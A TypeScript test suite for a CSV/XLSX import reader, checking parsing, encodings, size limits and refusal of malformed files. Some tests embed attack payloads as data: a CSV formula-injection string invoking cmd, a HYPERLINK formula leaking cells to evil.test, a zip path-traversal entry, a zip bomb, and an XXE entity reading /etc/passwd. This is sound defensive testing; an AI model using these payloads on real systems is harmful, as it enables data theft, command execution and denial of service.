import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { Refusal } from '../../../../http/answers/refusal';
import { workbook } from '../../../../testing/workbook';
import { csvLines } from '../../download';
import { readFile } from '../../../../files/sheets/readFile';

const csv = (text: string): Buffer => Buffer.from(text);
const refusal = async (name: string, bytes: Buffer): Promise<string> => {
  try {
    await readFile(name, bytes);
    return 'read';
  } catch (error) {
    if (error instanceof Refusal) return error.reason;
    throw error;
  }
};

describe('reading CSV', () => {
  it('C-71 keeps quotes, separators and line breaks, in UTF-8 or UTF-16, with any of the usual separators', async () => {
    expect((await readFile('a.csv', csv('\uFEFFName,Note\r\n"a ""b"", c","two\nlines"\r\n'))).rows).toEqual([
      { line: 3, cells: ['a "b", c', 'two\nlines'] },
    ]);
    expect(await readFile('a.csv', csv('Name;Note\nx;1,5\n'))).toEqual({
      headers: ['Name', 'Note'],
      rows: [{ line: 2, cells: ['x', '1,5'] }],
    });
    expect(
      (await readFile('a.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Name\tNote\nx\ty\n', 'utf16le')]))).rows,
    ).toEqual([{ line: 2, cells: ['x', 'y'] }]);
  });

  it('C-70, C-73, C-74 gives back what an export was made from', async () => {
    const cells = [
      '=1+1',
      '+1',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1)',
      '＝1',
      '=HYPERLINK("http://evil.test?"&A1)',
      'Nguyễn Thị Ánh',
      'ปลอย',
      '职位 🌶️',
      '+63 917 000 0000',
    ];
    const { rows } = await readFile('a.csv', csv(`${csvLines([cells.map((_, index) => `h${index}`)])}${csvLines([cells])}`));
    expect(rows[0]?.cells).toEqual(cells);
  });

  it('is refused when it is none, has no lines or too many: 1030010, 1030011', async () => {
    expect(await refusal('a.csv', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00]))).toBe('importUnreadable');
    expect(await refusal('a.csv', csv('a\0b'))).toBe('importUnreadable');
    expect(await refusal('a.csv', csv(''))).toBe('importUnreadable');
    expect(await refusal('a.csv', csv(`h\n${'x\n'.repeat(20_001)}`))).toBe('importTooLarge');
    expect(await refusal('a.csv', csv(`h\n${',\n'.repeat(40_001)}`))).toBe('importTooLarge');
    expect(await refusal('a.csv', csv(`${'h,'.repeat(100)}h\n`))).toBe('importTooLarge');
    expect((await readFile('a.csv', csv(`h\n${'x\n'.repeat(20_000)}`))).rows).toHaveLength(20_000);
  });
});

describe('reading XLSX', () => {
  it('gives texts and numbers of the first sheet as they are written', async () => {
    const file = workbook([
      ['Name', 'Price', '', 'Rate'],
      ['Nguyễn & <co>', 199.9, '', 1e-3],
      ['', '', '', ''],
      ['=1+1', 6800000000000000, 'x', 0.1 + 0.2],
    ]);
    expect(await readFile('Ánh.XLSX', file)).toEqual({
      headers: ['Name', 'Price', '', 'Rate'],
      rows: [
        { line: 2, cells: ['Nguyễn & <co>', '199.9', '', '0.001'] },
        { line: 4, cells: ['=1+1', '6800000000000000', 'x', '0.3'] },
      ],
    });
  });

  it('reads inline texts, formulas by their stored values, and rows with gaps', async () => {
    const sheet =
      '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Na</t><t>me</t></is></c><c r="C1" t="str"><f>A1</f><v>Note</v></c></row><row r="3"><c r="B3"><f>1+1</f><v>2</v></c></row></sheetData></worksheet>';
    expect(await readFile('a.xlsx', workbook([], { entries: { 'xl/worksheets/sheet1.xml': sheet } }))).toEqual({
      headers: ['Name', '', 'Note'],
      rows: [{ line: 3, cells: ['', '2'] }],
    });
  });

  it.each([
    ['a row far away', '<row r="999999999"><c r="A999999999"><v>1</v></c></row>'],
    ['10 000 columns', `<row r="1">${'<c><v>1</v></c>'.repeat(10_000)}</row>`],
    ['a column far away', '<row r="1"><c r="XFD1"><v>1</v></c></row>'],
  ])('C-76 refuses %s', async (_name, rows) => {
    expect(
      await refusal(
        'a.xlsx',
        workbook([], { entries: { 'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>` } }),
      ),
    ).toBe('importTooLarge');
  });

  it('C-76 reads 50 000 shared strings and looks at no path', async () => {
    const strings = `<sst>${'<si><t>x</t></si>'.repeat(50_000)}</sst>`;
    expect(
      (await readFile('a.xlsx', workbook([['a'], ['b']], { entries: { 'xl/sharedStrings.xml': strings, '../../evil.txt': 'x' } }))).rows,
    ).toHaveLength(1);
  });

  it('C-77 stops at a bomb, and knows no entities of its own', async () => {
    const zeros = zipSync(
      { 'xl/workbook.xml': strToU8('<workbook/>'), 'xl/worksheets/sheet1.xml': new Uint8Array(64 * 1024 * 1024) },
      { level: 1 },
    );
    expect(zeros.length).toBeLessThan(1024 * 1024);
    expect(await refusal('a.xlsx', Buffer.from(zeros))).toBe('importTooLarge');
    expect(
      await refusal('a.xlsx', Buffer.from(zipSync(Object.fromEntries(Array.from({ length: 1500 }, (_, n) => [`x${n}`, strToU8('x')]))))),
    ).toBe('importTooLarge');
    const lol =
      '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY e SYSTEM "file:///etc/passwd">]><sst><si><t>&b;&e;</t></si></sst>';
    expect((await readFile('a.xlsx', workbook([['only']], { entries: { 'xl/sharedStrings.xml': lol } }))).headers[0]).toBe('&b;&e;');
  });

  it('C-78 refuses old, encrypted, cut off and renamed files', async () => {
    const old = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
    expect(await refusal('a.xls', old)).toBe('importType');
    expect(await refusal('a.xlsm', workbook([['a']]))).toBe('importType');
    expect(await refusal('a.xlsx', old)).toBe('importUnreadable');
    expect(await refusal('a.csv', workbook([['a']]))).toBe('importUnreadable');
    expect(await refusal('a.xlsx', workbook([['a']]).subarray(0, 200))).toBe('importUnreadable');
    expect(await refusal('a.xlsx.html', workbook([['a']]))).toBe('importType');
    expect(await refusal('a.xlsx', Buffer.from(zipSync({ 'word/document.xml': strToU8('<w/>') })))).toBe('importUnreadable');
  });
});
